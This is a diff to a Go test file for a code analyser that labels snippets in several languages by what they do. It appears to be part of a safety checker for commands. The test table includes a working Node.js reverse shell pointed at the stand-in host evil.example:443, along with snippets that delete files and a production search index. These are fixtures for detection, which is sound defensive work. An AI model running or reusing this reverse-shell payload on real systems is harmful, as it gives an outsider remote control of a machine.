@@ -3,6 +3,7 @@ package code
 import (
 	"strings"
 	"testing"
+	"time"
 
 	"github.com/umpire-dev/umpire"
 	"github.com/umpire-dev/umpire/internal/operation/command"
@@ -142,7 +143,7 @@ func TestRead(t *testing.T) {
 		{"for of", "js", `for (const f of ['a','b']) require('fs').unlinkSync(f)`, "unlink a; unlink b"},
 		{"forEach", "js", `['a','b'].forEach(f => require('fs').unlinkSync(f))`, "unlink a; unlink b"},
 		{"write", "js", `require('fs').writeFileSync('.env','A=1')`, "write .env <A=1>"},
-		{"reverse shell", "js", `var n=require('net'),c=require('child_process').spawn('/bin/sh',[]);var s=new n.Socket();s.connect(443,'evil.example',()=>{s.pipe(c.stdin);c.stdout.pipe(s)})`, "exec /bin/sh; revshell ; net evil.example:443; revshell evil.example:443"},
+		{"reverse shell", "js", `var n=require('net'),c=require('child_process').spawn('/bin/sh',[]);var s=new n.Socket();s.connect(443,'evil.example',()=>{s.pipe(c.stdin);c.stdout.pipe(s)})`, "exec /bin/sh; net evil.example:443; revshell evil.example:443; revshell evil.example:443"},
 		{"cloud client", "js", `const client = algoliasearch('app','key'); client.deleteIndex('prod');`, "infra index prod"},
 		{"dom is not a cloud", "js", `el.removeChild(x); map.delete(k); arr.splice(1)`, ""},
 		{"deno", "js", `Deno.removeSync('/x',{recursive:true})`, "delete /x"},
@@ -254,7 +255,10 @@ func TestBounds(t *testing.T) {
 		strings.Repeat("{a:", 10000),
 	} {
 		for _, l := range []string{"python", "js", "perl", "ruby", "php", "lua", "awk"} {
-			Read(l, text, testEnv())
+			start := time.Now()
+			if Read(l, text, testEnv()); time.Since(start) > 3*time.Second {
+				t.Errorf("%s took %v for %.20s", l, time.Since(start), text)
+			}
 		}
 	}
 }
